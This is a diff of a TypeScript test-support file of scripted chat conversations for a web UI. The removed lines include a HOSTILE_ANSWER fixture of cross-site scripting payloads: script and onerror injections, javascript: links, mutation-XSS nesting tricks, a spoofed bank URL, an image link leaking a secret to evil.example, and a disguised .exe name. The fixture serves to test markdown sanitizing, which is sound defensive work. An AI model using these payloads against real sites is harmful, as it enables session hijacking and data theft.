@@ -1,5 +1,4 @@
 /** Conversations to look at: the one of the desk's pictures, and what goes wrong. */
-import type { Page } from 'playwright-core'
 import type { Item } from '../../../../forge/desk/contract/chat.ts'
 import { ChatStandIn, pastTurn, type Script, SOME_USAGE } from '../chat-stand-in.ts'
 import { oidOf, type StandIn } from '../web-stand-in.ts'
@@ -123,59 +122,3 @@ export const HALF_A_TURN: Script = async turn => {
   await turn.stopped
   turn.unfinished('You stopped the turn', ['src/worker.ts', 'src/queue/lease.ts'])
 }
-
-export const QUESTION = 'Now the worker: stop claiming while any lease is in doubt, and show it in the metrics.'
-
-export async function ask(page: Page, text: string): Promise<void> {
-  await page.getByRole('textbox', { name: 'Message', exact: true }).fill(text)
-  await page.getByRole('button', { name: 'Send', exact: true }).click()
-}
-
-/** All that markdown has, as a good model writes it. */
-export const RICH_ANSWER = `# What I changed
-
-The keeper **bounds** its renewals; see [the design](docs/design.md) and [the manual](https://www.postgresql.org/docs/current/sql-select.html).
-A *lease* that is lost is ~~kept~~ given up: \`LeaseLost\` &mdash; at once.
-
-1. One renewal at a time
-   - with a deadline
-   - and a jitter
-2. After three misses it aborts
-   1. the job
-   2. the claim
-
-- [x] tests
-- [ ] metrics
-
-> Two workers never hold one lease.
-
-| Case | Before | After |
-|:-----|-------:|:-----:|
-| slow store | 12 | 1 |
-| lost lease | ∞ | 3 |
-
-\`\`\`ts src/queue/lease.ts
-const MAX_MISSES = 3
-export async function keep(lease: Lease): Promise<void> {
-  // Bounded: a slow store does not pile up.
-  await renew(lease, { jitter: "full" })
-}
-\`\`\`
-
----
-
-https://example.com/raw and ![a picture](https://example.com/p.png)`
-
-/** What a bad one writes. */
-export const HOSTILE_ANSWER = `<script>window.pwned = 1</script> <img src=x onerror="window.pwned=1"> <b onclick="pwned=1">bold?</b>
-
-[click me](javascript:window.pwned=1) [data](data:text/html,<script>pwned=1</script>) [mail](mailto:a@example.com) [bank](https://bank.example@evil.example/)
-
-![leak](https://evil.example/leak.png?q=secret) <https://evil.example/auto> https://evil.example/bare www.evil.example
-
-<svg><style><img title="</style><img src=x onerror=pwned=1>"></style></svg>
-
-\u001b[31mred\u001b[0m and \u202Etxt.exe\u202C turned
-
-<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=pwned=1&gt;">
-`
